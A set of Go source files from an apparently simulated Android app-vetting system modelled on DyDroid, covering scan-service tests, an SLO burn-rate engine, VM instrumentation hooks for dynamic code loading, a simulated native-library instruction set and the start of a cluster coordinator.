	// completed, so the job histogram is empty.
	for i := 0; i < 6; i++ {
		resp, body := postScan(t, ts, tinyAPK(t, fmt.Sprintf("com.cold.app%d", i)))
		if resp.StatusCode != http.StatusAccepted {
			t.Fatalf("scan %d: %d %s", i, resp.StatusCode, body)
		}
		if i == 1 {
			for w := 0; w < 2; w++ {
				select {
				case <-started:
				case <-time.After(10 * time.Second):
					t.Fatal("workers never started")
				}
			}
		}
	}
	resp, body := postScan(t, ts, tinyAPK(t, "com.cold.rejected"))
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("saturated scan: %d %s", resp.StatusCode, body)
	}
	got, err := strconv.Atoi(resp.Header.Get("Retry-After"))
	if err != nil {
		t.Fatalf("Retry-After %q not an integer: %v", resp.Header.Get("Retry-After"), err)
	}
	// Full queue (4) × nominal 1s ÷ 2 workers = 2s — backlog-shaped even
	// with zero latency history, not the misleading 1s floor.
	if got != 2 {
		t.Fatalf("cold-start Retry-After = %d, want 2 (queue 4 × 1s nominal / 2 workers)", got)
	}
}

// healthzBody fetches and decodes /v1/healthz.
func healthzBody(t *testing.T, ts *httptest.Server) map[string]any {
	t.Helper()
	resp, err := http.Get(ts.URL + "/v1/healthz")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("healthz: %d", resp.StatusCode)
	}
	var m map[string]any
	if err := json.NewDecoder(resp.Body).Decode(&m); err != nil {
		t.Fatal(err)
	}
	return m
}

// TestHealthzReportsQueueSaturation: the degraded field flips to true at
// ≥80% queue occupancy while the endpoint keeps answering 200, so a
// coordinator's prober can deprioritize the node before it 429s.
func TestHealthzReportsQueueSaturation(t *testing.T) {
	started := make(chan string, 8)
	unblock := make(chan struct{})
	_, ts := newStubServer(t, Config{Workers: 1, QueueDepth: 5},
		func(digest string, data []byte) (*Record, error) {
			started <- digest
			<-unblock
			return &Record{Digest: digest, Status: "exercised"}, nil
		})
	defer close(unblock)

	if h := healthzBody(t, ts); h["degraded"] != false {
		t.Fatalf("idle healthz degraded = %v, want false", h["degraded"])
	}

	// One job blocks the worker, four more sit in the queue: 4/5 = 80%.
	for i := 0; i < 5; i++ {
		resp, body := postScan(t, ts, tinyAPK(t, fmt.Sprintf("com.sat.app%d", i)))
		if resp.StatusCode != http.StatusAccepted {
			t.Fatalf("scan %d: %d %s", i, resp.StatusCode, body)
		}
		if i == 0 {
			select {
			case <-started:
			case <-time.After(10 * time.Second):
				t.Fatal("worker never started")
			}
		}
	}
	h := healthzBody(t, ts)
	if h["degraded"] != true {
		t.Fatalf("saturated healthz = %v, want degraded=true", h)
	}
	if h["status"] != "ok" {
		t.Fatalf("saturated healthz status = %v, want ok (degraded is not down)", h["status"])
	}
}

// TestSingleflightDedup submits the same digest twice while the first
// copy is still in flight: no second job is enqueued.
func TestSingleflightDedup(t *testing.T) {
	started := make(chan string, 8)
	unblock := make(chan struct{})
	reg := metrics.New()
	_, ts := newStubServer(t, Config{Workers: 1, QueueDepth: 4, Metrics: reg},
		func(digest string, data []byte) (*Record, error) {
			started <- digest
			<-unblock
			return &Record{Digest: digest, Status: "exercised"}, nil
		})

	apkBytes := tinyAPK(t, "com.dedup")
	resp, _ := postScan(t, ts, apkBytes)
	if resp.StatusCode != http.StatusAccepted {
		t.Fatalf("scan 1: %d", resp.StatusCode)
	}
	<-started
	resp, body := postScan(t, ts, apkBytes)
	if resp.StatusCode != http.StatusAccepted {
		t.Fatalf("scan 2: %d %s", resp.StatusCode, body)
	}
	var sub scanResponse
	if err := json.Unmarshal(body, &sub); err != nil {
		t.Fatal(err)
	}
	if sub.Status != "pending" {
		t.Fatalf("twin submission status = %q", sub.Status)
	}
	if got := reg.Counter("service.scan.deduped"); got != 1 {
		t.Fatalf("service.scan.deduped = %d", got)
	}
	if got := reg.Counter("service.scan.queued"); got != 1 {
		t.Fatalf("service.scan.queued = %d", got)
	}
	close(unblock)
	dg, err := apk.SigningDigest(apkBytes)
	if err != nil {
		t.Fatal(err)
	}
	pollResult(t, ts, dg)
}

// TestShutdownDrainsQueuedJobs checks graceful shutdown: queued work
// completes, new submissions are refused.
func TestShutdownDrainsQueuedJobs(t *testing.T) {
	reg := metrics.New()
	s, ts := newStubServer(t, Config{Workers: 1, QueueDepth: 8, Metrics: reg},
		func(digest string, data []byte) (*Record, error) {
			time.Sleep(20 * time.Millisecond)
			return &Record{Digest: digest, Status: "exercised"}, nil
		})

	var digests []string
	for i := 0; i < 4; i++ {
		data := tinyAPK(t, fmt.Sprintf("com.drain.a%d", i))
		dg, err := apk.SigningDigest(data)
		if err != nil {
			t.Fatal(err)
		}
		digests = append(digests, dg)
		if resp, body := postScan(t, ts, data); resp.StatusCode != http.StatusAccepted {
			t.Fatalf("scan %d: %d %s", i, resp.StatusCode, body)
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := s.Shutdown(ctx); err != nil {
		t.Fatal(err)
	}
	// Every queued job finished before Shutdown returned.
	for _, dg := range digests {
		if resp, body := getResult(t, ts, dg); resp.StatusCode != http.StatusOK {
			t.Fatalf("result %s after drain: %d %s", dg, resp.StatusCode, body)
		}
	}
	if got := reg.Counter("service.analyzed"); got != 4 {
		t.Fatalf("service.analyzed = %d", got)
	}
	// The drained daemon refuses new work.
	if resp, _ := postScan(t, ts, tinyAPK(t, "com.drain.late")); resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("post-shutdown scan: %d", resp.StatusCode)
	}
	// Shutdown is idempotent.
	if err := s.Shutdown(ctx); err != nil {
		t.Fatal(err)
	}
}

// TestFailedAnalysisReportsAndRetries pins a pipeline failure to the
// digest (502 on poll) and lets a resubmission retry it.
func TestFailedAnalysisReportsAndRetries(t *testing.T) {
	fail := true
	reg := metrics.New()
	_, ts := newStubServer(t, Config{Workers: 1, QueueDepth: 4, Metrics: reg},
		func(digest string, data []byte) (*Record, error) {
			if fail {
				return nil, fmt.Errorf("injected pipeline failure")
			}
			return &Record{Digest: digest, Status: "exercised"}, nil
		})

	data := tinyAPK(t, "com.flaky")
	dg, err := apk.SigningDigest(data)
	if err != nil {
		t.Fatal(err)
	}
	if resp, _ := postScan(t, ts, data); resp.StatusCode != http.StatusAccepted {
		t.Fatalf("scan: %d", resp.StatusCode)
	}
	deadline := time.Now().Add(10 * time.Second)
	for {
		resp, body := getResult(t, ts, dg)
		if resp.StatusCode == http.StatusBadGateway {
			var sr scanResponse
			if err := json.Unmarshal(body, &sr); err != nil {
				t.Fatal(err)
			}
			if sr.Status != "failed" || sr.Error == "" {
				t.Fatalf("failure body = %s", body)
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("failure never surfaced: %d %s", resp.StatusCode, body)
		}
		time.Sleep(5 * time.Millisecond)
	}
	if got := reg.Counter("service.analyze.errors"); got != 1 {
		t.Fatalf("service.analyze.errors = %d", got)
	}

	// Resubmission clears the failure pin and retries.
	fail = false
	if resp, _ := postScan(t, ts, data); resp.StatusCode != http.StatusAccepted {
		t.Fatalf("rescan: %d", resp.StatusCode)
	}
	pollResult(t, ts, dg)
}

func TestScanRejectsGarbageAndUnknownResult(t *testing.T) {
	_, ts := newStubServer(t, Config{Workers: 1, QueueDepth: 1}, nil)
	if resp, _ := postScan(t, ts, []byte("not an apk")); resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("garbage scan: %d", resp.StatusCode)
	}
	if resp, _ := getResult(t, ts, "deadbeef"); resp.StatusCode != http.StatusNotFound {
		t.Fatalf("unknown result: %d", resp.StatusCode)
	}
}

func TestOversizedSubmissionRejected(t *testing.T) {
	_, ts := newStubServer(t, Config{Workers: 1, QueueDepth: 1, MaxBodyBytes: 128}, nil)
	resp, _ := postScan(t, ts, bytes.Repeat([]byte{0x50}, 4096))
	if resp.StatusCode != http.StatusRequestEntityTooLarge {
		t.Fatalf("oversized scan: %d", resp.StatusCode)
	}
}

func TestNewRequiresAnalyzer(t *testing.T) {
	if _, err := New(Config{}); err == nil {
		t.Fatal("New accepted an empty config")
	}
}
