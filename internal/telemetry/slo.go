package telemetry

import (
	"fmt"
	"sort"
	"time"
)

// The SLO engine tracks declared service objectives over rolling,
// mergeable error budgets. Each objective classifies every analysis as
// good or bad (availability: did it succeed; latency: did it finish under
// the threshold) and folds the verdict into minute-wide time buckets.
// Buckets are keyed by absolute minute and merge by summation, so the SLO
// state shards and federates exactly like every other snapshot field:
// merging per-node states reproduces the single-node state of the same
// analyses, in any merge order.
//
// Burn rates follow the multi-window convention: the error-budget burn
// rate over a window is (observed error ratio) / (budgeted error ratio).
// A burn rate of 1 spends the budget exactly at the objective's pace; the
// fast window (1h) paging at 14.4x and the slow window (6h) at 6x are the
// classic thresholds that exhaust 2% and 5% of a 30-day budget
// respectively before alerting.
const (
	// SLOBucketSeconds is the bucket width of every objective series.
	SLOBucketSeconds = 60
	// DefaultSLORetention bounds how much history an objective keeps —
	// enough to evaluate the slow burn window with headroom.
	DefaultSLORetention = 12 * time.Hour
	// FastBurnWindow / SlowBurnWindow are the two alerting windows.
	FastBurnWindow = time.Hour
	SlowBurnWindow = 6 * time.Hour
	// FastBurnThreshold / SlowBurnThreshold are the alerting burn rates.
	FastBurnThreshold = 14.4
	SlowBurnThreshold = 6.0

	// DefaultAvailabilityTarget: 99.9% of analyses succeed.
	DefaultAvailabilityTarget = 0.999
	// DefaultLatencyTarget / DefaultLatencyThreshold: 99% of analyses
	// finish within the threshold.
	DefaultLatencyTarget    = 0.99
	DefaultLatencyThreshold = 2 * time.Second
)

// Objective names used by the default SLO set.
const (
	SLOScanAvailability = "scan-availability"
	SLOAnalyzeLatency   = "analyze-latency-p99"
)

// SLOOptions declare the tracked objectives. Zero values pick defaults.
type SLOOptions struct {
	// AvailabilityTarget is the fraction of analyses that must succeed.
	AvailabilityTarget float64
	// LatencyTarget is the fraction of analyses that must finish within
	// LatencyThreshold.
	LatencyTarget float64
	// LatencyThreshold is the latency objective's cutoff.
	LatencyThreshold time.Duration
	// Retention bounds each objective's bucket history.
	Retention time.Duration
}

// SLOBucket is one minute of good/bad verdicts.
type SLOBucket struct {
	// Start is the bucket's start in unix seconds (a multiple of
	// SLOBucketSeconds).
	Start int64 `json:"start"`
	Good  int64 `json:"good"`
	Bad   int64 `json:"bad"`
}

// SLOObjective is one declared objective with its rolling bucket series
// (ascending by Start, bounded to Cap newest buckets).
type SLOObjective struct {
	Name   string  `json:"name"`
	Target float64 `json:"target"`
	// ThresholdNS is the latency cutoff for latency objectives (0 for
	// availability).
	ThresholdNS int64 `json:"threshold_ns,omitempty"`
	// Cap bounds the retained buckets.
	Cap     int         `json:"cap"`
	Buckets []SLOBucket `json:"buckets,omitempty"`
}

// SLOState is the snapshot's SLO field: every declared objective, sorted
// by name for deterministic serialization.
type SLOState struct {
	Objectives []SLOObjective `json:"objectives"`
}

// NewSLOState declares the default objective set from opts.
func NewSLOState(opts SLOOptions) *SLOState {
	if opts.AvailabilityTarget <= 0 || opts.AvailabilityTarget >= 1 {
		opts.AvailabilityTarget = DefaultAvailabilityTarget
	}
	if opts.LatencyTarget <= 0 || opts.LatencyTarget >= 1 {
		opts.LatencyTarget = DefaultLatencyTarget
	}
	if opts.LatencyThreshold <= 0 {
		opts.LatencyThreshold = DefaultLatencyThreshold
	}
	if opts.Retention <= 0 {
		opts.Retention = DefaultSLORetention
	}
	cap := int(opts.Retention / (SLOBucketSeconds * time.Second))
	if cap < 1 {
		cap = 1
	}
	return &SLOState{Objectives: []SLOObjective{
		{Name: SLOAnalyzeLatency, Target: opts.LatencyTarget, ThresholdNS: int64(opts.LatencyThreshold), Cap: cap},
		{Name: SLOScanAvailability, Target: opts.AvailabilityTarget, Cap: cap},
	}}
}

// observe folds one verdict into the objective at time at. Zero times are
// skipped: an observation without a trustworthy timestamp (e.g. a
// warm-start cache hit with no trace) cannot land in a bucket
// deterministically.
func (o *SLOObjective) observe(at time.Time, good bool) {
	if at.IsZero() {
		return
	}
	start := at.Unix() - at.Unix()%SLOBucketSeconds
	i := sort.Search(len(o.Buckets), func(i int) bool { return o.Buckets[i].Start >= start })
	if i == len(o.Buckets) || o.Buckets[i].Start != start {
		o.Buckets = append(o.Buckets, SLOBucket{})
		copy(o.Buckets[i+1:], o.Buckets[i:])
		o.Buckets[i] = SLOBucket{Start: start}
	}
	if good {
		o.Buckets[i].Good++
	} else {
		o.Buckets[i].Bad++
	}
	o.trim()
}

// trim keeps the newest Cap buckets.
func (o *SLOObjective) trim() {
	if o.Cap > 0 && len(o.Buckets) > o.Cap {
		o.Buckets = o.Buckets[len(o.Buckets)-o.Cap:]
	}
}

// merge folds src into o bucket-for-bucket. Differing declarations keep
// the stricter (larger) target, threshold and cap so the merge stays
// commutative.
func (o *SLOObjective) merge(src SLOObjective) {
	if src.Target > o.Target {
		o.Target = src.Target
	}
	if src.ThresholdNS > o.ThresholdNS {
		o.ThresholdNS = src.ThresholdNS
	}
	if src.Cap > o.Cap {
		o.Cap = src.Cap
	}
	merged := make([]SLOBucket, 0, len(o.Buckets)+len(src.Buckets))
	i, j := 0, 0
	for i < len(o.Buckets) || j < len(src.Buckets) {
		switch {
		case j == len(src.Buckets) || (i < len(o.Buckets) && o.Buckets[i].Start < src.Buckets[j].Start):
			merged = append(merged, o.Buckets[i])
			i++
		case i == len(o.Buckets) || src.Buckets[j].Start < o.Buckets[i].Start:
			merged = append(merged, src.Buckets[j])
			j++
		default:
			merged = append(merged, SLOBucket{
				Start: o.Buckets[i].Start,
				Good:  o.Buckets[i].Good + src.Buckets[j].Good,
				Bad:   o.Buckets[i].Bad + src.Buckets[j].Bad,
			})
			i++
			j++
		}
	}
	o.Buckets = merged
	o.trim()
}

// clone deep-copies the state.
func (s *SLOState) clone() *SLOState {
	if s == nil {
		return nil
	}
	cp := &SLOState{Objectives: make([]SLOObjective, len(s.Objectives))}
	for i, o := range s.Objectives {
		o.Buckets = append([]SLOBucket(nil), o.Buckets...)
		cp.Objectives[i] = o
	}
	return cp
}

// find returns the objective named name, or nil.
func (s *SLOState) find(name string) *SLOObjective {
	if s == nil {
		return nil
	}
	for i := range s.Objectives {
		if s.Objectives[i].Name == name {
			return &s.Objectives[i]
		}
	}
	return nil
}

// Merge folds src into s by objective name; objectives only one side
// declares are carried over. Objectives stay name-sorted so the merged
// serialization is deterministic.
func (s *SLOState) Merge(src *SLOState) {
	if src == nil {
		return
	}
	for _, so := range src.Objectives {
		if cur := s.find(so.Name); cur != nil {
			cur.merge(so)
			continue
		}
		so.Buckets = append([]SLOBucket(nil), so.Buckets...)
		s.Objectives = append(s.Objectives, so)
	}
	sort.Slice(s.Objectives, func(i, j int) bool { return s.Objectives[i].Name < s.Objectives[j].Name })
}

// BurnWindow is one alerting window's worth of budget arithmetic.
type BurnWindow struct {
	// Window is the evaluated span ("1h0m0s", "6h0m0s").
	Window string `json:"window"`
	// Events and Bad count the verdicts inside the window.
	Events int64 `json:"events"`
	Bad    int64 `json:"bad"`
	// ErrorRate is Bad/Events (0 with no events).
	ErrorRate float64 `json:"error_rate"`
	// BurnRate is ErrorRate divided by the objective's budgeted error
	// ratio: 1.0 spends the budget exactly at pace.
	BurnRate float64 `json:"burn_rate"`
}

// SLOReport is one objective's evaluated burn-rate view at a point in
// time — the shape the dashboard tiles and Prometheus exposition render.
type SLOReport struct {
	Name        string  `json:"name"`
	Target      float64 `json:"target"`
	ThresholdNS int64   `json:"threshold_ns,omitempty"`
	Fast        BurnWindow `json:"fast"`
	Slow        BurnWindow `json:"slow"`
	// BudgetUsed is the fraction of the error budget spent over the whole
	// retained series (may exceed 1 when the objective is blown).
	BudgetUsed float64 `json:"budget_used"`
	// Alert is "ok", "fast-burn" (1h burn ≥ 14.4) or "slow-burn"
	// (6h burn ≥ 6). Fast burn wins when both fire.
	Alert string `json:"alert"`
}

// Alert values.
const (
	AlertOK       = "ok"
	AlertFastBurn = "fast-burn"
	AlertSlowBurn = "slow-burn"
)

// window sums the buckets newer than now-span.
func (o *SLOObjective) window(now time.Time, span time.Duration) (good, bad int64) {
	cut := now.Add(-span).Unix()
	for i := len(o.Buckets) - 1; i >= 0; i-- {
		b := o.Buckets[i]
		if b.Start+SLOBucketSeconds <= cut {
			break
		}
		good += b.Good
		bad += b.Bad
	}
	return good, bad
}

// burnWindow evaluates one window.
func (o *SLOObjective) burnWindow(now time.Time, span time.Duration) BurnWindow {
	good, bad := o.window(now, span)
	w := BurnWindow{Window: span.String(), Events: good + bad, Bad: bad}
	if w.Events > 0 {
		w.ErrorRate = float64(bad) / float64(w.Events)
	}
	if budget := 1 - o.Target; budget > 0 {
		w.BurnRate = w.ErrorRate / budget
	}
	return w
}

// Report evaluates the objective's burn rates at now.
func (o *SLOObjective) Report(now time.Time) SLOReport {
	r := SLOReport{
		Name:        o.Name,
		Target:      o.Target,
		ThresholdNS: o.ThresholdNS,
		Fast:        o.burnWindow(now, FastBurnWindow),
		Slow:        o.burnWindow(now, SlowBurnWindow),
		Alert:       AlertOK,
	}
	var good, bad int64
	for _, b := range o.Buckets {
		good += b.Good
		bad += b.Bad
	}
	if allowed := float64(good+bad) * (1 - o.Target); allowed > 0 {
		r.BudgetUsed = float64(bad) / allowed
	}
	switch {
	case r.Fast.BurnRate >= FastBurnThreshold:
		r.Alert = AlertFastBurn
	case r.Slow.BurnRate >= SlowBurnThreshold:
		r.Alert = AlertSlowBurn
	}
	return r
}

// Reports evaluates every objective at now, in name order.
func (s *SLOState) Reports(now time.Time) []SLOReport {
	if s == nil {
		return nil
	}
	out := make([]SLOReport, 0, len(s.Objectives))
	for i := range s.Objectives {
		out = append(out, s.Objectives[i].Report(now))
	}
	return out
}

// String renders a one-line summary of a report (log and CLI friendly).
func (r SLOReport) String() string {
	return fmt.Sprintf("%s target=%.4g burn1h=%.2f burn6h=%.2f alert=%s",
		r.Name, r.Target, r.Fast.BurnRate, r.Slow.BurnRate, r.Alert)
}
