// Package vm implements the Dalvik-style virtual machine that executes
// SDEX application bytecode inside the simulated Android framework. It
// provides the two class loaders (DexClassLoader, PathClassLoader), the
// JNI entry points (System.load, System.loadLibrary, Runtime.load0),
// Java-style stack traces, and the instrumentation hook layer that stands
// in for DyDroid's modified Android 4.3.1 framework.
//
// All dynamic code loading flows through exactly four choke points — the
// two class-loader constructors and the two JNI load calls — giving the
// hook layer the complete-mediation property the paper relies on
// (§II: "All DCL goes through one of these points").
package vm

import "github.com/dydroid/dydroid/internal/netsim"

// StackElement is one Java stack trace element (paper Fig. 2): the class
// and method of a frame.
type StackElement struct {
	Class  string
	Method string
}

// LoaderKind distinguishes the two Dalvik class loaders.
type LoaderKind string

// The class loader kinds.
const (
	LoaderDex  LoaderKind = "dalvik.system.DexClassLoader"
	LoaderPath LoaderKind = "dalvik.system.PathClassLoader"
)

// NativeLoadAPI distinguishes the JNI loading entry points.
type NativeLoadAPI string

// JNI load APIs. LoadZero is the ART-era Runtime.load0 the paper notes as
// the only addition needed for Android 7.1 coverage.
const (
	LoadLibrary NativeLoadAPI = "loadLibrary"
	Load        NativeLoadAPI = "load"
	LoadZero    NativeLoadAPI = "load0"
)

// Hooks is the framework instrumentation interface. DyDroid's dynamic
// analysis engine implements it; a zero NopHooks runs apps untraced.
// Implementations must tolerate concurrent calls from a single app run
// (the VM itself is single-threaded per app, but multiple VMs may share a
// hook sink).
type Hooks interface {
	// OnClassLoaderInit fires inside the DexClassLoader/PathClassLoader
	// constructor, before the file is consumed. dexPath may list multiple
	// files separated by ':'; optimizedDir is where the ODEX lands. stack
	// is the Java stack trace at construction, topmost caller first.
	OnClassLoaderInit(kind LoaderKind, dexPath, optimizedDir string, stack []StackElement)

	// OnNativeLoad fires inside the JNI load entry points with the
	// resolved library path (after mapLibraryName and search-path
	// resolution).
	OnNativeLoad(api NativeLoadAPI, libPath string, stack []StackElement)

	// OnFileDelete fires before java.io.File.delete; returning true makes
	// the delete silently fail (the paper's mutual-exclusion trick that
	// keeps temporary ad-library DEX files alive for interception).
	OnFileDelete(path string) (block bool)

	// OnFileRename fires before java.io.File.renameTo; returning true
	// blocks the rename.
	OnFileRename(oldPath, newPath string) (block bool)
}

// NopHooks ignores all events and blocks nothing.
type NopHooks struct{}

// OnClassLoaderInit implements Hooks.
func (NopHooks) OnClassLoaderInit(LoaderKind, string, string, []StackElement) {}

// OnNativeLoad implements Hooks.
func (NopHooks) OnNativeLoad(NativeLoadAPI, string, []StackElement) {}

// OnFileDelete implements Hooks.
func (NopHooks) OnFileDelete(string) bool { return false }

// OnFileRename implements Hooks.
func (NopHooks) OnFileRename(string, string) bool { return false }

// interface satisfaction checks.
var (
	_ Hooks           = NopHooks{}
	_ netsim.Recorder = netsim.NopRecorder{}
)
