// Package nativebin implements SELF, a simulated ELF-style native library
// format with an ARM-flavoured instruction set. It stands in for the
// Android .so libraries that DyDroid intercepts through the JNI
// load()/loadLibrary() hooks and feeds to the DroidNative malware
// analysis.
//
// A SELF library carries named entry points (symbols), a code section of
// register-machine instructions and a data section. The package provides a
// binary encoding, a disassembler, a builder, and Machine — an interpreter
// with a pluggable syscall layer through which native code touches the
// simulated Android system (files, network, ptrace, time). Running real
// instruction streams matters twice over: the MAIL translator disassembles
// them for ACFG-based malware matching, and packers/malware actually
// execute them inside the VM.
package nativebin

import (
	"fmt"
	"strings"
)

// Op identifies a native instruction.
type Op uint8

// Native instruction opcodes.
const (
	// NopN does nothing.
	NopN Op = iota
	// MovI loads an immediate: Rd = Imm.
	MovI
	// MovR copies a register: Rd = Rs.
	MovR
	// Ldrb loads a byte: Rd = mem[Rs+Imm].
	Ldrb
	// Strb stores a byte: mem[Rs+Imm] = Rd.
	Strb
	// AddR, SubR, XorR, AndR, OrrR compute Rd = Rs op Rt.
	AddR
	SubR
	XorR
	AndR
	OrrR
	// AddI computes Rd = Rs + Imm.
	AddI
	// Cmp sets the machine flags from Rs - Rt.
	Cmp
	// CmpI sets the machine flags from Rs - Imm.
	CmpI
	// B branches unconditionally to Target.
	B
	// Beq, Bne, Blt, Bge branch on the flags to Target.
	Beq
	Bne
	Blt
	Bge
	// Bl calls the function whose symbol is Sym (link register semantics
	// are handled by the machine's call stack).
	Bl
	// Svc traps into the system with syscall number Imm; arguments are
	// R0-R3 and the result lands in R0.
	Svc
	// Ret returns from the current function (or halts at top level).
	Ret
	// Push saves Rd on the machine stack.
	Push
	// Pop restores Rd from the machine stack.
	Pop

	opMax // sentinel; must remain last
)

var opNames = [...]string{
	NopN: "nop", MovI: "mov", MovR: "movr", Ldrb: "ldrb", Strb: "strb",
	AddR: "add", SubR: "sub", XorR: "eor", AndR: "and", OrrR: "orr",
	AddI: "addi", Cmp: "cmp", CmpI: "cmpi",
	B: "b", Beq: "beq", Bne: "bne", Blt: "blt", Bge: "bge",
	Bl: "bl", Svc: "svc", Ret: "ret", Push: "push", Pop: "pop",
}

// String returns the assembler mnemonic.
func (o Op) String() string {
	if int(o) < len(opNames) && opNames[o] != "" {
		return opNames[o]
	}
	return "op?"
}

// Valid reports whether the opcode is defined.
func (o Op) Valid() bool { return o < opMax }

// IsBranch reports whether the opcode carries a code target.
func (o Op) IsBranch() bool {
	switch o {
	case B, Beq, Bne, Blt, Bge:
		return true
	}
	return false
}

// IsConditional reports whether the branch is conditional.
func (o Op) IsConditional() bool { return o.IsBranch() && o != B }

// Instr is a single native instruction.
type Instr struct {
	Op     Op
	Rd     int    // destination register
	Rs     int    // first source register
	Rt     int    // second source register
	Imm    int64  // immediate operand
	Sym    string // call target symbol (Bl)
	Target int    // branch target (instruction index)
}

// NumRegs is the register file size (R0-R15).
const NumRegs = 16

// Symbol names an entry point into the code section.
type Symbol struct {
	Name  string
	Entry int // instruction index of the first instruction
}

// Library is one SELF native library.
type Library struct {
	// Soname is the library's file name, e.g. "libshell.so".
	Soname string
	// Arch labels the nominal target architecture ("arm" or "x86"); the
	// DroidNative front end keys its disassembler choice on this, exactly
	// as the real system selects per-platform lifters.
	Arch string
	// Symbols are the exported entry points, including JNI functions
	// (Java_pkg_Class_method) and JNI_OnLoad when present.
	Symbols []Symbol
	// Code is the full instruction stream.
	Code []Instr
	// Data is the initial data segment, mapped at DataBase.
	Data []byte
}

// FindSymbol returns the entry index of the named symbol and whether it
// exists.
func (l *Library) FindSymbol(name string) (int, bool) {
	for _, s := range l.Symbols {
		if s.Name == name {
			return s.Entry, true
		}
	}
	return 0, false
}

// Validate checks structural invariants: in-range branch targets and
// symbol entries, valid register indices.
func (l *Library) Validate() error {
	for _, s := range l.Symbols {
		if s.Entry < 0 || s.Entry > len(l.Code) {
			return fmt.Errorf("nativebin: %s: symbol %q entry %d out of range [0,%d]",
				l.Soname, s.Name, s.Entry, len(l.Code))
		}
	}
	for pc, in := range l.Code {
		if !in.Op.Valid() {
			return fmt.Errorf("nativebin: %s: pc %d: invalid opcode %d", l.Soname, pc, in.Op)
		}
		if in.Op.IsBranch() && (in.Target < 0 || in.Target >= len(l.Code)) {
			return fmt.Errorf("nativebin: %s: pc %d: branch target %d out of range [0,%d)",
				l.Soname, pc, in.Target, len(l.Code))
		}
		for _, r := range []int{in.Rd, in.Rs, in.Rt} {
			if r < 0 || r >= NumRegs {
				return fmt.Errorf("nativebin: %s: pc %d: register r%d out of range", l.Soname, pc, r)
			}
		}
	}
	return nil
}

// Disassemble renders the library as readable assembly listing.
func Disassemble(l *Library) string {
	var b strings.Builder
	fmt.Fprintf(&b, ".library %s arch=%s data=%d bytes\n", l.Soname, l.Arch, len(l.Data))
	entries := make(map[int][]string)
	for _, s := range l.Symbols {
		entries[s.Entry] = append(entries[s.Entry], s.Name)
	}
	for pc, in := range l.Code {
		for _, name := range entries[pc] {
			fmt.Fprintf(&b, "%s:\n", name)
		}
		fmt.Fprintf(&b, "  %4d: %s\n", pc, formatInstr(in))
	}
	return b.String()
}

func formatInstr(in Instr) string {
	r := func(n int) string { return fmt.Sprintf("r%d", n) }
	switch in.Op {
	case NopN, Ret:
		return in.Op.String()
	case MovI:
		return fmt.Sprintf("mov %s, #%d", r(in.Rd), in.Imm)
	case MovR:
		return fmt.Sprintf("movr %s, %s", r(in.Rd), r(in.Rs))
	case Ldrb:
		return fmt.Sprintf("ldrb %s, [%s, #%d]", r(in.Rd), r(in.Rs), in.Imm)
	case Strb:
		return fmt.Sprintf("strb %s, [%s, #%d]", r(in.Rd), r(in.Rs), in.Imm)
	case AddR, SubR, XorR, AndR, OrrR:
		return fmt.Sprintf("%s %s, %s, %s", in.Op, r(in.Rd), r(in.Rs), r(in.Rt))
	case AddI:
		return fmt.Sprintf("addi %s, %s, #%d", r(in.Rd), r(in.Rs), in.Imm)
	case Cmp:
		return fmt.Sprintf("cmp %s, %s", r(in.Rs), r(in.Rt))
	case CmpI:
		return fmt.Sprintf("cmpi %s, #%d", r(in.Rs), in.Imm)
	case B, Beq, Bne, Blt, Bge:
		return fmt.Sprintf("%s %d", in.Op, in.Target)
	case Bl:
		return fmt.Sprintf("bl %s", in.Sym)
	case Svc:
		return fmt.Sprintf("svc #%d", in.Imm)
	case Push:
		return fmt.Sprintf("push %s", r(in.Rd))
	case Pop:
		return fmt.Sprintf("pop %s", r(in.Rd))
	default:
		return "op?"
	}
}
