package cluster

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/pprof"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/events"
	"github.com/dydroid/dydroid/internal/metrics"
	"github.com/dydroid/dydroid/internal/profile"
	"github.com/dydroid/dydroid/internal/trace"
)

// Config assembles a Coordinator.
type Config struct {
	// Nodes is the explicit-join member list: worker addresses
	// ("host:port" or full base URLs). At least one is required.
	Nodes []string
	// VNodes is the virtual-node count per member (default DefaultVNodes).
	VNodes int
	// ProbeInterval is the health-probe period (default 2s).
	ProbeInterval time.Duration
	// ProbeFailures is K: a node is ejected from the ring after K
	// consecutive failed probes or forwards, and rejoins on the next
	// successful probe (default 3).
	ProbeFailures int
	// MaxAttempts bounds the per-request failover chain: a scan or read
	// touches at most this many distinct nodes in ring order before the
	// coordinator answers 502 (default 3).
	MaxAttempts int
	// MaxBodyBytes bounds one forwarded submission (default 64 MiB).
	MaxBodyBytes int64
	// Client performs node requests (default: 30s-timeout client).
	Client *http.Client
	// Metrics receives coordinator counters. Optional.
	Metrics *metrics.Registry
	// Traces stores the coordinator's per-scan route span trees, keyed by
	// digest; GET /v1/trace/{digest} grafts the worker's analysis tree
	// under the matching attempt span. Nil gets a default in-memory store.
	Traces *trace.Store
	// Journal records cluster lifecycle events (eject/rejoin/failover),
	// federated with member journals at GET /v1/events. Nil gets a fresh
	// default journal.
	Journal *events.Journal
	// Profiles, when non-nil, is the coordinator's own continuous-
	// profiling recorder: its windows join the federated /v1/profiles
	// index under Node's name next to the member windows. Optional.
	Profiles *profile.Recorder
	// Node names the coordinator itself in federated profile rows and
	// journal events (default "coordinator").
	Node string
	// Logger receives membership transitions (eject/rejoin). Optional.
	Logger *slog.Logger
}

// member is the coordinator's view of one worker.
type member struct {
	name    string // as configured, the ring label
	baseURL string

	inRing   bool
	fails    int // consecutive probe/forward failures
	lastErr  string
	degraded bool
	draining bool
	queueLen, queueDepth, inflight int
	snapshotVersion                int
	ejections                      int64
}

// Coordinator routes the vetting API across the worker ring. Create with
// New, mount Handler, and call Close to stop the prober.
type Coordinator struct {
	cfg    Config
	reg    *metrics.Registry
	client *http.Client

	mu      sync.Mutex
	ring    *Ring
	members map[string]*member

	done      chan struct{}
	wg        sync.WaitGroup
	closeOnce sync.Once
}

// New validates the config, joins every configured node, and starts the
// health prober.
func New(cfg Config) (*Coordinator, error) {
	if len(cfg.Nodes) == 0 {
